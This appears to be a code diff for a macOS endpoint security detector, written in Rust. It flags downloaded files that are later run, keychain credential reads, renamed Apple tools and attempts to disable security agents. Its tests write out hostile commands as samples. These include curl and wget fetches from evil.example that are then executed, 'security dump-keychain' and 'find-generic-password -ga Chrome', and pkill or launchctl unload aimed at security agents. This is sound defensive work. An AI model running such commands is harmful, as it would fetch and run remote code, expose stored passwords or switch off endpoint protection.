@@ -20,6 +20,7 @@ use ward_sdk::prelude::*;
 /// Launchd labels and process names of security agents (ward's own first).
 const DEFAULT_PROTECTED: &[&str] = &[
     "ward",
+    "com.ward",
     "com.jamf.protect",
     "JamfProtect",
     "com.google.santa",
@@ -104,24 +105,78 @@ fn finding(
         .evidence("path", exec.target.path())
 }
 
-/// The value of an option given as `-o V`, `-oV`, `--output V` or `--output=V`.
-fn option_value<'a>(args: &'a [String], short: &str, long: &str) -> Option<&'a str> {
+/// The value of an option given as `-o V`, `-oV`, in a cluster of short flags
+/// (`-sLo V`, `-sLoV`), as `--output V` or `--output=V`.
+fn option_value<'a>(args: &'a [String], short: char, long: &str) -> Option<&'a str> {
     let mut it = args.iter().skip(1);
     while let Some(a) = it.next() {
-        if a == short || a == long {
+        if a == long {
             return it.next().map(String::as_str);
         }
-        if let Some(v) = a.strip_prefix(&format!("{long}=")) {
+        if let Some(v) = a.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
             return Some(v);
         }
-        if let Some(v) = a
-            .strip_prefix(short)
-            .filter(|v| !v.is_empty() && !a.starts_with("--"))
-        {
-            return Some(v);
+        let Some(cluster) = a.strip_prefix('-').filter(|c| !c.starts_with('-')) else {
+            continue;
+        };
+        if let Some(at) = cluster.find(short) {
+            let rest = cluster.get(at + short.len_utf8()..).unwrap_or("");
+            return if rest.is_empty() {
+                it.next().map(String::as_str)
+            } else {
+                Some(rest)
+            };
         }
     }
     None
+}
+
+/// True if a short flag `c` appears alone or in a cluster (`-g`, `-ga`).
+fn has_short_flag(args: &[String], c: char) -> bool {
+    args.iter().skip(1).any(|a| {
+        a.strip_prefix('-')
+            .is_some_and(|cluster| !cluster.starts_with('-') && cluster.contains(c))
+    })
+}
+
+/// Longest command line kept with a remembered download.
+const MAX_REMEMBERED_COMMAND: usize = 4096;
+
+fn capped(text: String) -> String {
+    if text.len() <= MAX_REMEMBERED_COMMAND {
+        return text;
+    }
+    let mut end = MAX_REMEMBERED_COMMAND;
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    text.get(..end).unwrap_or("").to_owned()
+}
+
+/// Apple tools by signing identifier: a renamed copy keeps its signature.
+const APPLE_TOOLS: &[(&str, &str)] = &[
+    ("com.apple.osascript", "osascript"),
+    ("com.apple.security", "security"),
+    ("com.apple.spctl", "spctl"),
+    ("com.apple.xpc.launchctl", "launchctl"),
+    ("com.apple.curl", "curl"),
+    ("com.apple.defaults", "defaults"),
+    ("com.apple.pkill", "pkill"),
+    ("com.apple.killall", "killall"),
+    ("com.apple.systemextensionsctl", "systemextensionsctl"),
+];
+
+/// Which tool an image is: an Apple-signed tool by its signing identifier (so a copy in
+/// `/tmp/x` is still `security`), anything else by file name.
+fn tool_name(image: &Process) -> &str {
+    if image.signer == SignerType::Apple
+        && let Some((_, tool)) = APPLE_TOOLS
+            .iter()
+            .find(|(id, _)| image.signing_id.as_deref() == Some(*id))
+    {
+        return tool;
+    }
+    image.name()
 }
 
 /// `path` made absolute against `cwd`, with macOS's `/tmp`, `/var` and `/etc` symlinks
@@ -186,10 +241,11 @@ pub fn osascript_abuse(args: &[String]) -> Option<(&'static str, bool)> {
 /// What a `security` argv does to stored credentials, with its severity.
 pub fn keychain_access(args: &[String]) -> Option<(&'static str, Severity)> {
     let sub = args.get(1)?.as_str();
-    let has = |flag: &str| args.iter().skip(2).any(|a| a == flag);
     match sub {
         "dump-keychain" => Some(("dump-keychain", Severity::High)),
-        "find-generic-password" | "find-internet-password" if has("-w") || has("-g") => {
+        "find-generic-password" | "find-internet-password"
+            if has_short_flag(args, 'w') || has_short_flag(args, 'g') =>
+        {
             Some(("password printed", Severity::Medium))
         }
         "export"
@@ -243,11 +299,23 @@ pub fn gatekeeper_off(name: &str, args: &[String]) -> Option<&'static str> {
 }
 
 impl CommandAbuse {
+    /// The first argument naming a protected agent: a path or label component (split on
+    /// `/` and spaces) equal to a protected name, or a launchd label under it
+    /// (`com.jamf.protect.daemon`, `com.jamf.protect.plist`). Not a substring: `reward` is
+    /// not `ward`.
     fn protected_target<'a>(&self, args: &'a [String]) -> Option<&'a str> {
-        args.iter()
-            .skip(1)
-            .map(String::as_str)
-            .find(|a| !a.starts_with('-') && self.protected.iter().any(|p| a.contains(p.as_str())))
+        args.iter().skip(1).map(String::as_str).find(|a| {
+            !a.starts_with('-')
+                && a.split(|c: char| c == '/' || c.is_whitespace())
+                    .any(|part| {
+                        self.protected.iter().any(|p| {
+                            part == p
+                                || part
+                                    .strip_prefix(p.as_str())
+                                    .is_some_and(|rest| rest.starts_with('.'))
+                        })
+                    })
+        })
     }
 
     /// `launchctl`/`kill*`/`systemextensionsctl` aimed at a security agent.
@@ -289,7 +357,7 @@ impl CommandAbuse {
 
     fn check(&mut self, exec: &ExecEvent) -> Vec<Finding> {
         let args = &exec.args;
-        let name = exec.target.name();
+        let name = tool_name(&exec.target);
         let cwd = exec.cwd.as_ref().map(|f| f.path.as_str());
         let mut out = Vec::new();
         if name == "osascript"
@@ -390,25 +458,37 @@ impl CommandAbuse {
             );
         }
         if matches!(name, "curl" | "wget") {
-            let (short, long) = if name == "curl" {
-                ("-o", "--output")
+            let url = args
+                .iter()
+                .skip(1)
+                .find(|a| a.contains("://"))
+                .cloned()
+                .unwrap_or_default();
+            let out_path = if name == "curl" {
+                option_value(args, 'o', "--output")
+                    .map(str::to_owned)
+                    .or_else(|| {
+                        // `-O` / `--remote-name`: the URL's last path segment, in the cwd.
+                        let remote =
+                            has_short_flag(args, 'O') || args.iter().any(|a| a == "--remote-name");
+                        let file = url
+                            .split(['?', '#'])
+                            .next()
+                            .unwrap_or("")
+                            .rsplit('/')
+                            .next();
+                        file.filter(|f| remote && !f.is_empty() && !f.contains(':'))
+                            .map(str::to_owned)
+                    })
             } else {
-                ("-O", "--output-document")
+                option_value(args, 'O', "--output-document").map(str::to_owned)
             };
-            if let Some(out_path) =
-                option_value(args, short, long).filter(|p| *p != "-" && *p != "/dev/null")
-            {
-                let url = args
-                    .iter()
-                    .skip(1)
-                    .find(|a| a.contains("://"))
-                    .cloned()
-                    .unwrap_or_default();
+            if let Some(out_path) = out_path.filter(|p| p != "-" && p != "/dev/null") {
                 self.remember_download(
-                    absolute(out_path, cwd),
+                    absolute(&out_path, cwd),
                     Download {
-                        command: args.join(" "),
-                        url,
+                        command: capped(args.join(" ")),
+                        url: capped(url),
                     },
                 );
             }
@@ -855,6 +935,101 @@ mod tests {
             d.on_event(&testing::exec("/dev/null", &["/dev/null"]))
                 .unwrap()
                 .is_empty()
+        );
+    }
+
+    #[test]
+    fn flag_clusters_remote_names_and_renamed_tools_are_recognised() {
+        let mut d = CommandAbuse::default();
+        // `-sLo PATH`, then run it.
+        run(
+            &mut d,
+            "/usr/bin/curl",
+            &["curl", "-sLo", "/tmp/a", "https://evil.example/a"],
+        );
+        // `-O`: the file is named after the URL, in the cwd (/Users/alice in test events).
+        run(
+            &mut d,
+            "/usr/bin/curl",
+            &["curl", "-fsSLO", "https://evil.example/b.sh?x=1"],
+        );
+        let a = d
+            .on_event(&testing::exec_of(
+                testing::process("/private/tmp/a"),
+                &["/private/tmp/a"],
+            ))
+            .unwrap();
+        assert_eq!(a[0].rule, "downloaded-file-executed");
+        let b = run(&mut d, "/bin/sh", &["sh", "b.sh"]);
+        assert_eq!(
+            b[0].evidence_value("url"),
+            Some("https://evil.example/b.sh?x=1")
+        );
+        // `wget -qO FILE`.
+        run(
+            &mut d,
+            "/usr/local/bin/wget",
+            &["wget", "-qO", "/tmp/c", "https://evil.example/c"],
+        );
+        let c = d
+            .on_event(&testing::exec_of(
+                testing::process("/private/tmp/c"),
+                &["/private/tmp/c"],
+            ))
+            .unwrap();
+        assert_eq!(c.len(), 1);
+        // `security find-generic-password -ga NAME`.
+        let f = run(
+            &mut d,
+            "/usr/bin/security",
+            &["security", "find-generic-password", "-ga", "Chrome"],
+        );
+        assert_eq!(f[0].rule, "keychain-credential-access");
+        // Apple's `security` copied to /tmp/s keeps its signing identifier.
+        let mut copy = testing::process("/tmp/s");
+        copy.signing_id = Some("com.apple.security".into());
+        let f = d
+            .on_event(&testing::exec_of(copy, &["/tmp/s", "dump-keychain"]))
+            .unwrap();
+        assert_eq!(f[0].rule, "keychain-credential-access");
+    }
+
+    #[test]
+    fn protected_names_match_whole_components_not_substrings() {
+        let mut d = CommandAbuse::default();
+        for quiet in [&["pkill", "reward"][..], &["pkill", "-f", "forwarder"][..]] {
+            assert!(run(&mut d, "/usr/bin/pkill", quiet).is_empty(), "{quiet:?}");
+        }
+        assert!(
+            run(
+                &mut d,
+                "/bin/launchctl",
+                &[
+                    "launchctl",
+                    "unload",
+                    "/Library/LaunchDaemons/forwarder.plist"
+                ]
+            )
+            .is_empty()
+        );
+        for loud in [
+            &["pkill", "ward"][..],
+            &["pkill", "-f", "/usr/local/bin/ward run"][..],
+        ] {
+            assert_eq!(run(&mut d, "/usr/bin/pkill", loud).len(), 1, "{loud:?}");
+        }
+        assert_eq!(
+            run(
+                &mut d,
+                "/bin/launchctl",
+                &[
+                    "launchctl",
+                    "unload",
+                    "/Library/LaunchDaemons/com.jamf.protect.daemon.plist"
+                ]
+            )
+            .len(),
+            1
         );
     }
 
